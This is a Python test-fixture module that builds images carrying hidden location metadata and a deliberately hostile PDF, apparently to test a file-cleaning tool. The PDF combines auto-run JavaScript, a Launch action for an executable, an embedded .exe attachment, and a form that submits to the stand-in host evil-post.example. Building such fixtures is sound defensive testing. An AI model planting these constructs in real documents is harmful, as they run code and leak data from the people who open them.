"""Files as people hand them in, good and hostile."""

from __future__ import annotations

import io

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

SECRET = b"34.0522N-118.2437W"


def jpeg(*, size: tuple[int, int] = (40, 20), colour: str = "red", orientation: int = 1) -> bytes:
    """Return a photograph that says where and with what it was taken."""
    image = Image.new("RGB", size, colour)
    exif = image.getexif()
    exif[0x0112] = orientation
    exif[0x010F] = SECRET.decode()
    exif[0x8825] = {1: "N", 2: (34.0, 3.0, 8.0), 3: "W", 4: (118.0, 14.0, 37.0)}
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=SECRET, xmp=b"<x>" + SECRET + b"</x>")
    return out.getvalue()


def png(*, size: tuple[int, int] = (40, 20), mode: str = "RGB") -> bytes:
    """Return a picture with words hidden beside its pixels."""
    info = PngInfo()
    info.add_text("Comment", SECRET.decode())
    info.add_itxt("XML:com.adobe.xmp", SECRET.decode())
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def webp() -> bytes:
    """Return a WebP picture that says more than its pixels."""
    out = io.BytesIO()
    Image.new("RGBA", (40, 20), (0, 0, 255, 128)).save(out, "WEBP", xmp=SECRET, exif=b"Exif\x00\x00" + SECRET)
    return out.getvalue()


def pdf(*, pages: int = 1) -> pikepdf.Pdf:
    """Return an empty PDF to add things to."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(200, 200))
    return made


def written(made: pikepdf.Pdf, *, encryption: pikepdf.Encryption | bool = False) -> bytes:
    """Return the bytes of a PDF."""
    out = io.BytesIO()
    made.save(out, encryption=encryption)
    return out.getvalue()


def hostile_pdf() -> bytes:
    """Return a PDF that runs, sends, plays, carries and tells whatever it can."""
    made = pdf(pages=2)
    page = made.pages[0]
    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('evil-script')"))
    made.Root.OpenAction = made.make_indirect(js)
    made.Root.AA = pikepdf.Dictionary(WC=js)
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), js])),
        Dests=pikepdf.Dictionary(Names=pikepdf.Array()),
    )
    made.attachments["evil-attachment.exe"] = b"MZ evil-payload"
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = ["evil-author"]
    made.docinfo["/Author"] = "evil-author"
    page.obj.AA = pikepdf.Dictionary(O=js)
    page.obj.PieceInfo = pikepdf.Dictionary(App=pikepdf.Dictionary(Private=pikepdf.String("evil-piece")))
    rect = pikepdf.Array([0, 0, 10, 10])

    def note(subtype: str, **more: pikepdf.Object) -> pikepdf.Object:
        made_ = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/" + subtype), Rect=rect)
        return made.make_indirect(_with(made_, more))

    def act(kind: str, **more: pikepdf.Object) -> pikepdf.Dictionary:
        return _with(pikepdf.Dictionary(S=pikepdf.Name("/" + kind)), more)

    page.obj.Annots = pikepdf.Array(
        [
            note("Link", A=act("URI", URI=pikepdf.String("https://alder-falls.example/rights"))),
            note("Link", A=act("GoTo", D=pikepdf.Array([made.pages[1].obj, pikepdf.Name.Fit]))),
            note("Link", A=act("URI", URI=pikepdf.String("javascript:evil-link()"))),
            note("Link", A=act("Launch", F=pikepdf.String("evil-program.exe"))),
            note("Link", A=act("URI", URI=pikepdf.String("https://alder-falls.example"), Next=js)),
            note("Text", Contents=pikepdf.String("evil-comment")),
            note("FileAttachment", FS=pikepdf.Dictionary(F=pikepdf.String("evil-file"))),
            note("Screen", A=act("Rendition", JS=pikepdf.String("evil-rendition"))),
            note("Widget", FT=pikepdf.Name.Btn, A=act("SubmitForm", F=pikepdf.String("https://evil-post.example"))),
        ]
    )
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([page.obj.Annots[8]]), XFA=pikepdf.String("evil-xfa"))
    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=_photograph(made)))
    page.obj.Contents = made.make_stream(b"q 100 0 0 100 0 0 cm /Im0 Do Q")
    return written(made)


def _with(made: pikepdf.Dictionary, more: dict[str, pikepdf.Object]) -> pikepdf.Dictionary:
    for key, value in more.items():
        made["/" + key] = value
    return made


def _photograph(made: pikepdf.Pdf) -> pikepdf.Object:
    stream = made.make_stream(jpeg())
    stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    stream.Width, stream.Height, stream.BitsPerComponent = 40, 20, 8
    stream.ColorSpace, stream.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
    return stream
